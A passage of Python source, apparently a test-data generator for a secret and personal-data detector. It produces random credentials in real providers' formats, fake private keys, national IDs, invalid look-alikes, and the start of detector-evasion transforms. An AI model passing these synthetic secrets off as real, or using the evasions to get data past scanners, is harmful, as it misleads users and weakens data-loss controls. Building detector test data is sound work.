    title = {'RSA': 'RSA PRIVATE KEY', 'EC': 'EC PRIVATE KEY', 'PK8': 'PRIVATE KEY', 'SSH': 'OPENSSH PRIVATE KEY'}[kind]
    n = lines or {'RSA': 8, 'EC': 3, 'PK8': 9, 'SSH': 6}[kind]
    if kind == 'SSH':
        raw = b'openssh-key-v1\x00' + rbytes(48 * n - 15)
    elif kind == 'EC':
        raw = b'\x30\x77\x02\x01\x01\x04\x20' + rbytes(48 * n - 7)
    else:
        raw = b'\x30\x82\x04\xa4\x02\x01\x00' + rbytes(48 * n - 7)
    body = base64.b64encode(raw).decode()
    rows = [body[i:i + (70 if kind == 'SSH' else 64)] for i in range(0, len(body), 70 if kind == 'SSH' else 64)]
    return sep.join(['-----BEGIN %s-----' % title] + rows + ['-----END %s-----' % title])


WORDS = ['Sommer', 'Tiger', 'Blue', 'Kasia', 'Hamster', 'Galaxy', 'Winter', 'Falcon', 'Mango', 'Berlin', 'Kebab',
         'Marmot', 'Sakura', 'Dragon', 'Monkey', 'Pistache', 'Lumi', 'Ankara', 'Praha', 'Istanbul', 'Rosa']


def gen_password(style=None):
    style = style or pick(['human', 'strong', 'strong', 'human2', 'phrase'])
    if style == 'human':
        return pick(WORDS) + str(R.randint(1, 99)) + pick('!?#$*.') + str(R.randint(10, 99))
    if style == 'human2':
        return pick(WORDS).lower() + pick(['_', '.', '-']) + pick(WORDS) + str(R.randint(1970, 2025))
    if style == 'phrase':
        return '-'.join(pick(['correct', 'lamp', 'river', 'stone', 'violet', 'orbit', 'cactus', 'quartz', 'mint']) for _ in range(3)) + rd(2)
    return rs(AN, R.randint(14, 22)) + pick('!@#%^&*') + rs(AN, 3)


def gen_secret(kind):
    k = kind
    if k == 'ghp':
        return 'ghp_' + rs(AN, 36)
    if k == 'gho':
        return 'gho_' + rs(AN, 36)
    if k == 'ghs':
        return 'ghs_' + rs(AN, 36)
    if k == 'ghpat':
        return 'github_pat_11' + rs(UP + DIG, 20) + '_' + rs(AN, 59)
    if k == 'glpat':
        return 'glpat-' + rs(AN + '-_', 20)
    if k == 'glrt':
        return 'glrt-' + rs(AN + '-_', 20)
    if k == 'xoxb':
        return 'xoxb-' + rd1(11) + '-' + rd1(13) + '-' + rs(AN, 24)
    if k == 'xoxp':
        return 'xoxp-' + rd1(11) + '-' + rd1(11) + '-' + rd1(13) + '-' + rs(HEX, 32)
    if k == 'slackhook':
        return 'https://hooks.slack.com/services/T' + rs(UP + DIG, 8) + '/B' + rs(UP + DIG, 10) + '/' + rs(AN, 24)
    if k == 'stripe':
        return 'sk_live_51' + rs(AN, 96)
    if k == 'rk':
        return 'rk_live_51' + rs(AN, 96)
    if k == 'whsec':
        return 'whsec_' + rs(AN, 32)
    if k == 'openai':
        return 'sk-proj-' + rs(AN + '-_', 74) + 'T3BlbkFJ' + rs(AN + '-_', 74)
    if k == 'anthropic':
        return 'sk-ant-api03-' + rs(AN + '-_', 93) + 'AA'
    if k == 'akia':
        return 'AKIA' + rs(UP + '234567', 16)
    if k == 'asia':
        return 'ASIA' + rs(UP + '234567', 16)
    if k == 'awssecret':
        return rs(AN + '/+', 40)
    if k == 'awssession':
        return 'IQoJb3JpZ2luX2VjE' + rs(AN + '/+', 300) + '=='
    if k == 'gapi':
        return 'AIza' + rs(AN + '-_', 35)
    if k == 'ya29':
        return 'ya29.a0' + rs(AN + '-_', 150)
    if k == 'sendgrid':
        return 'SG.' + rs(AN + '-_', 22) + '.' + rs(AN + '-_', 43)
    if k == 'hex32':
        return rs(HEX, 32)
    if k == 'hex40':
        return rs(HEX, 40)
    if k == 'hex64':
        return rs(HEX, 64)
    if k == 'hf':
        return 'hf_' + rs(UP + LO, 34)
    if k == 'npm':
        return 'npm_' + rs(AN, 36)
    if k == 'pypi':
        return 'pypi-AgEIcHlwaS5vcmc' + rs(B64U, 120)
    if k == 'telegram':
        return rd1(10) + ':AA' + rs(AN + '-_', 33)
    if k == 'discord':
        return b64u(rd1(18).encode()) + '.' + rs(AN + '-_', 6) + '.' + rs(AN + '-_', 38)
    if k == 'mailgun':
        return 'key-' + rs(HEX, 32)
    if k == 'azkey':
        return base64.b64encode(rbytes(64)).decode()
    if k == 'azsig':
        return urllib.parse.quote(base64.b64encode(rbytes(32)).decode(), safe='')
    if k == 'shpat':
        return 'shpat_' + rs(HEX, 32)
    if k == 'hvs':
        return 'hvs.' + rs(AN + '_-', 90)
    if k == 'dop':
        return 'dop_v1_' + rs(HEX, 64)
    if k == 'age':
        return 'AGE-SECRET-KEY-1' + rs('QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L', 58)
    if k == 'lin':
        return 'lin_api_' + rs(AN, 40)
    if k == 'atlassian':
        return 'ATATT3xFfGF0' + rs(AN + '-_', 170) + '=' + rs(HEX.upper(), 8)
    if k == 'sq':
        return 'EAAA' + rs(AN + '-_', 60)
    if k == 'fb':
        return 'EAAG' + rs(AN, 180)
    if k == 'dd':
        return rs(HEX, 32)
    if k == 'nr':
        return 'NRAK-' + rs(UP + DIG, 27)
    if k == 'doppler':
        return 'dp.st.prd.' + rs(AN, 43)
    if k == 'rubygems':
        return 'rubygems_' + rs(HEX, 48)
    if k == 'docker':
        return 'dckr_pat_' + rs(AN + '-_', 27)
    if k == 'postman':
        return 'PMAK-' + rs(HEX, 24) + '-' + rs(HEX, 34)
    if k == 'midtrans':
        return 'Mid-server-' + rs(AN + '-_', 24)
    if k == 'xendit':
        return 'xnd_development_' + rs(AN, 60)
    if k == 'tap':
        return 'sk_live_' + rs(AN, 24)
    if k == 'jwt':
        return gen_jwt()
    if k == 'pw':
        return gen_password()
    if k == 'pwh':
        return gen_password('human')
    if k == 'pws':
        return gen_password('strong')
    if k == 'pwp':
        return gen_password('phrase')
    if k == 'pw2':
        return gen_password('human2')
    if k == 'pin':
        return rd(R.choice([4, 6]))
    if k in ('RSA', 'EC', 'PK8', 'SSH'):
        return gen_pem(k)
    raise ValueError(kind)


# ---------------------------------------------------------------- look-alikes
def gen_uuid():
    h = rs(HEX, 32)
    return '%s-%s-4%s-%s%s-%s' % (h[:8], h[8:12], h[13:16], pick('89ab'), h[17:20], h[20:32])


def isbn13():
    body = pick(['978', '979']) + rd(9)
    s = sum(int(c) * (1 if i % 2 == 0 else 3) for i, c in enumerate(body))
    return body + str((10 - s % 10) % 10)


def aba():
    while True:
        d = rd(8)
        w = [3, 7, 1, 3, 7, 1, 3, 7]
        s = sum(int(a) * b for a, b in zip(d, w))
        c = (10 - s % 10) % 10
        if d[0] in '0123':
            return d + str(c)


def bad_card(brand='visa'):
    num = gen_card(brand)
    c = int(num[-1])
    return num[:-1] + str((c + R.randint(1, 9)) % 10)


def bad_iban(cc):
    ib = gen_iban(cc)
    while True:
        i = R.randrange(4, len(ib))
        if ib[i].isdigit():
            new = ib[:i] + str((int(ib[i]) + R.randint(1, 9)) % 10) + ib[i + 1:]
            if not iban_ok(new):
                return new


def bad_ssn(rule=None):
    rule = rule or pick(['a000', 'a666', 'a9', 'g00', 's0000'])
    while True:
        s = gen_ssn()
        a, g, n = s[:3], s[3:5], s[5:]
        if rule == 'a000':
            a = '000'
        elif rule == 'a666':
            a = '666'
        elif rule == 'a9':
            a = '9' + rd(2)
        elif rule == 'g00':
            g = '00'
        else:
            n = '0000'
        return '%s-%s-%s' % (a, g, n)


def itin():
    return '9%s-%s-%s' % (rd(2), pick(['50', '55', '63', '70', '78', '83', '88', '90', '92', '94', '97']), rd(4))


def ein():
    return '%s-%s' % (pick(['12', '20', '27', '46', '47', '81', '84', '88', '94']), rd(7))


def bad_nino(rule=None):
    rule = rule or pick(['l1', 'l2', 'pre', 'suf'])
    s = gen_nino()
    if rule == 'l1':
        s = pick('DFIQUV') + pick([c for c in NINO_L2 if c not in 'DFIQUV']) + s[2:]
    elif rule == 'l2':
        s = pick([c for c in NINO_L1 if c not in 'BGKNTZ']) + pick('DFIOQUV') + s[2:]
    elif rule == 'pre':
        s = pick(['GB', 'BG', 'NK', 'KN', 'TN', 'NT', 'ZZ']) + s[2:]
    else:
        s = s[:8] + pick('EFGHJKMPXZ')
    return s


def imei():
    body = pick(['35', '86', '35', '01']) + rd(12)
    return body + luhn_digit(body)


def iccid():
    body = '89' + pick(['44', '49', '33', '48', '90', '7', '86', '81', '82', '62']) + rd(14)
    body = body[:18]
    return body + luhn_digit(body)


def vin():
    return pick(['WVW', 'WBA', 'VF1', 'YV1', 'TMB', 'SJN', 'KMH', 'JTD', 'NMT', 'LSV', '1HG', 'ZFA']) + rs('ABCDEFGHJKLMNPRSTUVWXYZ0123456789', 6) + rs('0123456789X', 1) + rs('ABCDEFGHJKLMNPRSTVWXY123456789', 1) + rs('ABCDEFGHJKLMNPRSTUVWXYZ0123456789', 1) + rd(6)


PNR_CH = 'ABCDEFGHJKLMNPQRSTUVWXYZ23456789'


def gen_la(kind, args):
    a = args[0] if args else None
    if kind == 'lit':  # a hand-written look-alike, counted like the generated ones
        return ','.join(args)
    if kind == 'uuid':
        return gen_uuid()
    if kind == 'UUID':
        return gen_uuid().upper()
    if kind == 'sha1':
        return rs(HEX, 40)
    if kind == 'sha7':
        return rs(HEX, 7)
    if kind == 'sha12':
        return rs(HEX, 12)
    if kind == 'sha256':
        return rs(HEX, 64)
    if kind == 'md5':
        return rs(HEX, 32)
    if kind == 'digest':
        return 'sha256:' + rs(HEX, 64)
    if kind == 'trace':
        return rs(HEX, 32)
    if kind == 'span':
        return rs(HEX, 16)
    if kind == 'oid24':
        return rs(HEX, 24)
    if kind == 'imei':
        return imei()
    if kind == 'iccid':
        return iccid()
    if kind == 'imsi':
        return pick(['234', '262', '208', '250', '255', '286', '460', '440', '450']) + pick(['10', '15', '01', '02', '20']) + rd(10)
    if kind == 'badcard':
        return fmt_card(bad_card(a or 'visa'), args[1] if len(args) > 1 else 'sp')
    if kind == 'testcard':
        return fmt_card(pick(sorted(TEST_CARDS)) if not a else a, 'sp' if len(args) < 2 else args[1])
    if kind == 'mask':
        l4 = rd(4)
        st = a or pick(['stars', 'x', 'bin'])
        if st == 'stars':
            return '**** **** **** ' + l4
        if st == 'x':
            return 'XXXX-XXXX-XXXX-' + l4
        if st == 'bin':
            return pick(['4', '5']) + rd(5) + '******' + l4
        if st == 'dots':
            return '•••• ' + l4
        return l4
    if kind == 'last4':
        return rd(4)
    if kind == 'gift':
        while True:
            n = pick(['6006', '7777', '6035']) + rd(15)
            if not luhn_ok(n):
                return ' '.join(n[i:i + 4] for i in range(0, 19, 4))
    if kind == 'badiban':
        return fmt_iban(bad_iban(a or 'DE'), args[1] if len(args) > 1 else 'p')
    if kind == 'sampleiban':
        return fmt_iban(pick(SAMPLE_IBANS) if not a else SAMPLE_IBANS[int(a)], args[1] if len(args) > 1 else 'p')
    if kind == 'maskiban':
        ib = gen_iban(a or 'DE')
        return ib[:4] + ' **** **** ' + ib[-4:] if len(args) < 2 else ib[:2] + 'xx' + 'x' * (len(ib) - 8) + ib[-4:]
    if kind == 'badssn':
        return bad_ssn(a)
    if kind == 'samplessn':
        return '123-45-6789'
    if kind == 'itin':
        return itin()
    if kind == 'ein':
        return ein()
    if kind == 'maskssn':
        return pick(['***-**-', 'XXX-XX-']) + rd(4)
    if kind == 'badnino':
        return fmt_nino(bad_nino(a), args[1] if len(args) > 1 else 'sp')
    if kind == 'samplenino':
        return 'QQ 12 34 56 C' if a != 'plain' else 'QQ123456C'
    if kind == 'exemail':
        p = gen_person('en')
        return p['fr'] + '.' + p['lr'] + '@' + (a or pick(['example.com', 'example.org', 'example.com']))
    if kind == 'docip':
        return pick(['192.0.2.', '198.51.100.', '203.0.113.']) + str(R.randint(1, 254))
    if kind == 'docip6':
        return '2001:db8:%x::%x' % (R.randint(1, 0xfff), R.randint(1, 0xfff))
    if kind == 'dns':
        return pick(['1.1.1.1', '9.9.9.9'])
    if kind == 'netmask':
        return pick(['255.255.255.0', '255.255.240.0', '255.255.255.192', '255.255.0.0'])
    if kind == 'oid':
        return pick(['1.2.840.113549.1.1.11', '2.5.4.3', '1.3.6.1.4.1.311.21.7', '1.2.840.10045.4.3.2', '1.3.6.1.5.5.7.3.1'])
    if kind == 'ver':
        return pick(['v', '']) + '%d.%d.%d' % (R.randint(0, 14), R.randint(0, 40), R.randint(0, 30))
    if kind == 'ver4':
        return '%d.%d.%d.%d' % (R.randint(1, 30), R.randint(0, 9), R.randint(0, 999), R.randint(0, 99)) if a != 'v' else 'v%d.%d.%d.%d' % (R.randint(1, 30), R.randint(0, 9), R.randint(0, 999), R.randint(0, 99))
    if kind == 'build':
        return str(R.randint(1000, 99999))
    if kind == 'ts':
        y, m, d = gen_date(2024, 2026)
        return '%d-%02d-%02dT%02d:%02d:%02d.%03dZ' % (y, m, d, R.randint(0, 23), R.randint(0, 59), R.randint(0, 59), R.randint(0, 999))
    if kind == 'epoch':
        return str(R.randint(1730000000, 1795000000))
    if kind == 'epochms':
        return str(R.randint(1730000000000, 1795000000000))
    if kind == 'date':
        return fmt_date(gen_date(2019, 2027), a or 'iso')
    if kind == 'pnr':
        return rs(PNR_CH, 6)
    if kind == 'ticket':
        return pick(['057', '220', '176', '125', '074', '235', '157', '618', '160', '131', '081', '006']) + rd(10)
    if kind == 'flight':
        return pick(['LH', 'AF', 'KL', 'LO', 'OK', 'TK', 'EK', 'QR', 'SQ', 'NH', 'KE', 'VN', 'TG', 'GA', 'MH', 'BA', 'SK', 'AY', 'PS', 'W6']) + str(R.randint(10, 2999))
    if kind == 'order':
        return (a or pick(['ORD', 'SO', 'PO', 'INV'])) + '-' + str(R.randint(2019, 2026)) + '-' + rd(R.choice([5, 6, 7]))
    if kind == 'num':
        return rd1(int(a or 8))
    if kind == 'case':
        return gen_case(a or 'en')
    if kind == 'claim':
        return (a or 'CLM') + '-' + rd(2) + '-' + rd(7)
    if kind == 'policy':
        return (a or 'POL') + rd(3) + '/' + rd(6) + '-' + rs(UP, 1)
    if kind == 'vat':
        return gen_vat(a or 'DE')
    if kind == 'isbn':
        b = isbn13()
        return b if a != 'h' else '%s-%s-%s-%s-%s' % (b[:3], b[3], b[4:8], b[8:12], b[12])
    if kind == 'coords':
        return '%.5f, %.5f' % (R.uniform(-40, 65), R.uniform(-120, 140))
    if kind == 'tracking':
        t = a or pick(['ups', 'dhl', 'pl'])
        if t == 'ups':
            return '1Z' + rs(UP + DIG, 6) + rd(10)
        if t == 'dhl':
            return 'JJD' + rd(18)
        if t == 'pl':
            return '00' + rd(18)
        if t == 'cn':
            return pick(['SF', 'YT', 'JD']) + rd(13)
        if t == 'post':
            return rs(UP, 2) + rd(9) + pick(['DE', 'CN', 'PL', 'NL', 'JP', 'KR'])
    if kind == 'var':
        return '${' + (a or 'DB_PASSWORD') + '}'
    if kind == 'akiaex':
        return 'AKIAIOSFODNN7EXAMPLE'
    if kind == 'awsexsecret':
        return 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'
    if kind == 'jwtio':
        return 'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c'
    if kind == 'arn':
        return 'arn:aws:%s' % pick(['iam::%s:role/%s' % (rd1(12), pick(['ci-deploy', 'lambda-exec', 'eks-node'])),
                                    's3:::%s' % pick(['tf-state-prod', 'billing-exports', 'kyc-uploads']),
                                    'kms:eu-central-1:%s:key/%s' % (rd1(12), gen_uuid())])
    if kind == 'acct':
        return rd1(12)
    if kind == 'twsid':
        return 'AC' + rs(HEX, 32)
    if kind == 'agepub':
        return 'age1' + rs('qpzry9x8gf2tvdw0s3jn54khce6mua7l', 58)
    if kind == 'sshpub':
        return 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI' + rs(B64, 43)
    if kind == 'bic':
        return pick(['DEUTDEFF', 'COBADEFFXXX', 'BNPAFRPP', 'INGBNL2A', 'PKOPPLPW', 'KOMBCZPP', 'TATRSKBX', 'OTPVHUHB', 'NDEAFIHH', 'ESSESESS', 'DNBANOKK', 'DABADKKK', 'TGBATRIS', 'PBANUA2X', 'SABRRUMM', 'NBADAEAA', 'HABBPKKA', 'BKCHCNBJ', 'MHCBJPJT', 'BOTKJPJT'])
    if kind == 'sortcode':
        return '%s-%s-%s' % (rd(2), rd(2), rd(2))
    if kind == 'aba':
        return aba()
    if kind == 'p555':
        return '(%s) 555-01%s' % (pick(['212', '415', '312', '206', '617']), rd(2)) if a != 'd' else '%s-555-01%s' % (pick(['212', '415', '503']), rd(2))
    if kind == 'plate':
        return gen_plate(a or 'de')
    if kind == 'vin':
        return vin()
    if kind == 'natid':
        return gen_natid(a)
    if kind == 'acctno':
        return rd1(int(args[1]) if len(args) > 1 else 10) if not a else gen_acctno(a)
    if kind == 'amount':
        return '%d.%02d' % (R.randint(5, 9999), R.randint(0, 99))
    if kind == 'zip':
        return rd(5)
    if kind == 'postcode':
        return pick(['SW1A', 'M14', 'LS6', 'EH3', 'B15', 'CF10']) + ' ' + str(R.randint(1, 9)) + rs('ABDEFGHJLNPQRSTUWXYZ', 2)
    if kind == 'mac':
        return ':'.join(rs(HEX, 2) for _ in range(6))
    if kind == 'semver':
        return '%d.%d.%d' % (R.randint(0, 9), R.randint(0, 30), R.randint(0, 20))
    if kind == 'masksecret':
        return pick(['sk_live_', 'ghp_', 'xoxb-', 'glpat-', 'AKIA']) + '*' * R.randint(6, 12) + rs(AN, 4)
    if kind == 'redacted':
        return pick(['********', '[REDACTED]', '<redacted>', '***'])
    if kind == 'helmref':
        return '{{ .Values.%s }}' % (a or 'db.password')
    if kind == 'gharef':
        return '${{ secrets.%s }}' % (a or 'NPM_TOKEN')
    if kind == 'integrity':
        return 'sha512-' + base64.b64encode(rbytes(64)).decode()
    if kind == 'dkim':
        return 'v=DKIM1; k=rsa; p=MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA' + rs(B64, 80)
    if kind == 'pubpem':
        return '-----BEGIN PUBLIC KEY-----\n' + 'MFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE' + rs(B64, 28) + '\n' + rs(B64, 24) + '==\n-----END PUBLIC KEY-----'
    if kind == 'ksuid':
        return rs(AN, 27)
    if kind == 'ulid':
        return '01' + rs('0123456789ABCDEFGHJKMNPQRSTVWXYZ', 24)
    if kind == 'reqid':
        return 'req_' + rs(AN, 24)
    if kind == 'stripeid':
        return (a or 'ch') + '_' + rs(AN, 24)
    if kind == 'txhash':
        return '0x' + rs(HEX, 64)
    if kind == 'wallet':
        return '0x' + rs(HEX + 'ABCDEF', 40) if a != 'btc' else 'bc1q' + rs('qpzry9x8gf2tvdw0s3jn54khce6mua7l', 38)
    if kind == 'msisdnmask':
        return '+' + pick(['44', '49', '31', '48']) + ' ' + '*' * 6 + rd(3)
    if kind == 'maskemail':
        p = gen_person(a or 'en')
        return p['fr'][0] + '***' + '@' + pick(DOMAINS[a or 'en'])[0] + '***.' + pick(['com', 'de', 'pl', 'ru'])
    if kind == 'cas':
        return '%d-%02d-%d' % (R.randint(50, 9999), R.randint(0, 99), R.randint(0, 9))
    if kind == 'lot':
        return rs(UP, 2) + rd(5)
    if kind == 'ndc':
        return '%s-%s-%s' % (rd(5), rd(4), rd(2))
    if kind == 'pzn':
        return rd(8)
    if kind == 'icd':
        return pick(['E11.9', 'J45.909', 'I10', 'M54.5', 'K21.0', 'F32.1', 'Z00.00', 'E78.5'])
    if kind == 'cdrid':
        return rd1(R.choice([14, 16, 18]))
    if kind == 'hexaddr':
        return '0x' + pick(['00007ff', '00005', '0000000']) + rs(HEX, 9)
    if kind == 'port':
        return str(pick([5432, 6379, 8080, 443, 9200, 27017, 3306, 8443]))
    if kind == 'cidr':
        return gen_ip4('priv').rsplit('.', 1)[0] + '.0/' + str(pick([16, 20, 24]))
    return gen_natid(kind)


def gen_case(loc):
    y = R.randint(2019, 2026)
    if loc == 'pl':
        return '%s %s %d/%02d' % (pick(['I C', 'II K', 'VIII GC', 'IV P', 'I Ns']), '', R.randint(100, 9999), y % 100)
    if loc == 'de':
        return '%d %s %d/%02d' % (R.randint(1, 40), pick(['O', 'C', 'Ds', 'Js', 'F']), R.randint(100, 4999), y % 100)
    if loc == 'cs':
        return '%d %s %d/%d' % (R.randint(1, 60), pick(['C', 'T', 'Nc', 'EXE']), R.randint(10, 999), y)
    if loc == 'sk':
        return '%d%s/%d/%d' % (R.randint(1, 40), pick(['C', 'T', 'Er']), R.randint(10, 999), y)
    if loc == 'fr':
        return 'RG %02d/%05d' % (y % 100, R.randint(1, 99999))
    if loc == 'nl':
        return 'C/%02d/%d / HA ZA %02d-%d' % (R.randint(1, 19), R.randint(100000, 999999), y % 100, R.randint(100, 999))
    if loc == 'ru':
        return '№ %d-%d/%d' % (R.randint(1, 9), R.randint(100, 9999), y)
    if loc == 'tr':
        return 'Esas No: %d/%d' % (y, R.randint(100, 9999))
    return '%d-CV-%05d' % (y, R.randint(1, 99999))


def gen_vat(cc):
    if cc == 'DE':
        return 'DE' + rd1(9)
    if cc == 'FR':
        return 'FR' + rd(2) + rd1(9)
    if cc == 'NL':
        return 'NL' + rd1(9) + 'B' + rd(2)
    if cc == 'PL':
        return 'PL' + rd1(10)
    if cc == 'CZ':
        return 'CZ' + rd1(8)
    if cc == 'SK':
        return 'SK' + '20' + rd(8)
    if cc == 'HU':
        return 'HU' + rd1(8)
    if cc == 'FI':
        return 'FI' + rd1(8)
    if cc == 'SE':
        return 'SE' + rd1(10) + '01'
    if cc == 'DK':
        return 'DK' + rd1(8)
    if cc == 'NO':
        return rd1(9) + 'MVA'
    if cc == 'GB':
        return 'GB' + rd1(9)
    if cc == 'AE':
        return '100' + rd(12)
    if cc == 'SA':
        return '3' + rd(13) + '3'
    if cc == 'IN':
        return '%02d%s%s%s1Z%s' % (R.randint(1, 35), rs(UP, 5), rd(4), rs(UP, 1), rs(UP + DIG, 1))
    if cc == 'ID':
        return '%s.%s.%s.%s-%s.%s' % (rd(2), rd(3), rd(3), rd(1), rd(3), rd(3))
    return cc + rd1(9)


def gen_plate(cc):
    if cc == 'de':
        return '%s-%s %d' % (pick(['B', 'M', 'HH', 'K', 'F', 'S', 'DO', 'HB']), rs(UP, 2), R.randint(1, 9999))
    if cc == 'se':
        return rs('ABCDEFGHJKLMNPRSTUWXYZ', 3) + ' ' + rd(2) + rs('ABCDEFGHJKLMNPRSTUWXYZ' + DIG, 1)
    if cc == 'pl':
        return pick(['WA', 'KR', 'PO', 'GD', 'WR']) + ' ' + rd(5)
    if cc == 'nl':
        return '%s-%s-%s' % (rs('GHJKLNPRSTXZ', 1) + rd(1), rs('BDFGHJKLNPRSTVXZ', 3), rd(1))
    if cc == 'fr':
        return '%s-%s-%s' % (rs('ABCDEFGHJKLMNPRSTVWXYZ', 2), rd(3), rs('ABCDEFGHJKLMNPRSTVWXYZ', 2))
    if cc == 'tr':
        return '%02d %s %d' % (R.randint(1, 81), rs('ABCDEFGHJKLMNPRSTUVYZ', 2), R.randint(100, 9999))
    if cc == 'ko':
        return '%d%s %d' % (R.randint(10, 399), pick(['가', '나', '다', '라', '마', '거', '너', '더', '러']), R.randint(1000, 9999))
    if cc == 'th':
        return '%s %d %s' % (pick(['1กข', '2ขค', 'กท', '3กบ']), R.randint(1000, 9999), pick(['กรุงเทพมหานคร', 'เชียงใหม่', 'ชลบุรี']))
    if cc == 'cz':
        return '%d%s %s' % (R.randint(1, 9), rs('ABCEHJKLMPSTUZ', 1) + rd(1), rd(4))
    if cc == 'ua':
        return '%s %s %s' % (pick(['AA', 'KA', 'BC', 'AX', 'BI']), rd(4), pick(['KH', 'MA', 'IP', 'OT']))
    return rs(UP, 3) + rd(4)


def gen_acctno(kind):
    if kind == 'us':
        return rd1(10)
    if kind == 'gb':
        return rd(8)
    if kind == 'in':
        return rd1(12)
    if kind == 'ru':
        return '40817810' + rd(12)
    if kind == 'cn':
        return rd1(17)
    return rd1(10)


def gen_natid(kind):
    """National identifiers the detector is not asked for (all look-alikes here)."""
    if kind == 'pesel':
        y, m, d = gen_date(1950, 1999)
        b = '%02d%02d%02d' % (y % 100, m, d) + rd(4)
        w = [1, 3, 7, 9, 1, 3, 7, 9, 1, 3]
        return b + str((10 - sum(int(c) * x for c, x in zip(b, w)) % 10) % 10)
    if kind == 'rc':
        y, m, d = gen_date(1960, 2000)
        return '%02d%02d%02d/%s' % (y % 100, m + pick([0, 50]), d, rd(4))
    if kind == 'pnr_se':
        y, m, d = gen_date(1950, 2004)
        return '%02d%02d%02d-%s' % (y % 100, m, d, rd(4))
    if kind == 'hetu':
        y, m, d = gen_date(1950, 1999)
        return '%02d%02d%02d-%s%s' % (d, m, y % 100, rd(3), pick('0123456789ABCDEFHJKLMNPRSTUVWXY'))
    if kind == 'fnr':
        y, m, d = gen_date(1950, 1999)
        return '%02d%02d%02d %s' % (d, m, y % 100, rd(5))
    if kind == 'cpr':
        y, m, d = gen_date(1950, 1999)
        return '%02d%02d%02d-%s' % (d, m, y % 100, rd(4))
    if kind == 'tckn':
        d = [R.randint(1, 9)] + [R.randint(0, 9) for _ in range(8)]
        d10 = ((d[0] + d[2] + d[4] + d[6] + d[8]) * 7 - (d[1] + d[3] + d[5] + d[7])) % 10
        d11 = (sum(d) + d10) % 10
        return ''.join(map(str, d + [d10, d11]))
    if kind == 'inn':
        return rd1(12)
    if kind == 'snils':
        return '%s-%s-%s %s' % (rd(3), rd(3), rd(3), rd(2))
    if kind == 'aadhaar':
        return '%s %s %s' % (str(R.randint(2, 9)) + rd(3), rd(4), rd(4))
    if kind == 'pan_in':
        return rs(UP, 3) + 'P' + rs(UP, 1) + rd(4) + rs(UP, 1)
    if kind == 'nik':
        return pick(['31', '32', '33', '35', '51', '73']) + rd(2) + rd(2) + '%02d%02d%02d' % (R.randint(1, 28), R.randint(1, 12), R.randint(60, 99)) + rd(4)
    if kind == 'mykad':
        y, m, d = gen_date(1960, 2000)
        return '%02d%02d%02d-%s-%s' % (y % 100, m, d, pick(['14', '10', '08', '01']), rd(4))
    if kind == 'cccd':
        return '0' + rd(2) + pick(['0', '1', '2', '3']) + rd(8)
    if kind == 'thid':
        b = [R.randint(1, 8)] + [R.randint(0, 9) for _ in range(11)]
        c = (11 - sum(x * (13 - i) for i, x in enumerate(b)) % 11) % 10
        s = ''.join(map(str, b + [c]))
        return '%s-%s-%s-%s-%s' % (s[0], s[1:5], s[5:10], s[10:12], s[12])
    if kind == 'rrn':
        y, m, d = gen_date(1960, 1999)
        return '%02d%02d%02d-%s' % (y % 100, m, d, pick('12') + rd(6))
    if kind == 'mynumber':
        return '%s %s %s' % (rd(4), rd(4), rd(4))
    if kind == 'cnid':
        y, m, d = gen_date(1960, 2000)
        b = pick(['110105', '310104', '440305', '510107', '330106']) + '%d%02d%02d' % (y, m, d) + rd(3)
        w = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2]
        return b + '10X98765432'[sum(int(c) * x for c, x in zip(b, w)) % 11]
    if kind == 'steuerid':
        return '%s %s %s %s' % (rd1(2), rd(3), rd(3), rd(3))
    if kind == 'nir':
        return '%s %s %s %s %s %s %s' % (pick('12'), rd(2), '%02d' % R.randint(1, 12), rd(2), rd(3), rd(3), rd(2))
    if kind == 'bsn':
        while True:
            d = rd1(9)
            if sum(int(c) * w for c, w in zip(d, [9, 8, 7, 6, 5, 4, 3, 2, -1])) % 11 == 0:
                return d
    if kind == 'taj':
        return '%s %s %s' % (rd(3), rd(3), rd(3))
    if kind == 'irnid':
        return rd(10)
    if kind == 'cnic':
        return '%s-%s-%s' % (rd1(5), rd(7), rd(1))
    if kind == 'bdnid':
        return rd1(10)
    if kind == 'eid':
        return '784-%d-%s-%s' % (R.randint(1965, 2002), rd(7), rd(1))
    if kind == 'iqama':
        return '2' + rd(9)
    if kind == 'passport':
        return rs(UP, 1) + rd(8)
    if kind == 'passport2':
        return rs(UP, 2) + rd(7)
    if kind == 'dl_us':
        return rs(UP, 1) + rd(7)
    if kind == 'medicare':
        return '%s%s%s-%s%s-%s%s' % (rd1(1), rs('ACDEFGHJKMNPQRTUVWXY', 1), rs(UP + DIG, 1), rd(1), rs('ACDEFGHJKMNPQRTUVWXY', 1), rs('ACDEFGHJKMNPQRTUVWXY', 2), rd(2))
    if kind == 'nhs':
        while True:
            d = rd1(9)
            c = 11 - sum(int(x) * (10 - i) for i, x in enumerate(d)) % 11
            if c == 11:
                c = 0
            if c != 10:
                s = d + str(c)
                return '%s %s %s' % (s[:3], s[3:6], s[6:])
    if kind == 'egn':
        return rd(10)
    if kind == 'ahv':
        return '756.%s.%s.%s' % (rd(4), rd(4), rd(2))
    raise ValueError(kind)


# ---------------------------------------------------------------- transforms (evasions)
AT_WORDS = {'en': (' [at] ', ' [dot] '), 'en2': (' (at) ', ' (dot) '), 'en3': ' at | dot ', 'de': (' (at) ', ' punkt '),
            'de2': ('[ät]', '.'), 'fr': (' arobase ', ' point '), 'pl': (' (małpa) ', ' (kropka) '), 'cs': (' zavináč ', ' tečka '),
            'ru': (' собака ', ' точка '), 'uk': (' равлик ', ' крапка '), 'nl': (' apenstaartje ', ' punt '), 'hu': (' kukac ', ' pont '),
            'sv': (' snabel-a ', ' punkt '), 'tr': (' et ', ' nokta '), 'fi': (' ät ', ' piste '), 'da': (' snabel-a ', ' punktum '),
            'no': (' krøllalfa ', ' punktum '), 'ja': ('アットマーク', 'ドット'), 'ko': (' 골뱅이 ', ' 점 '), 'zh': ('#', '.'),
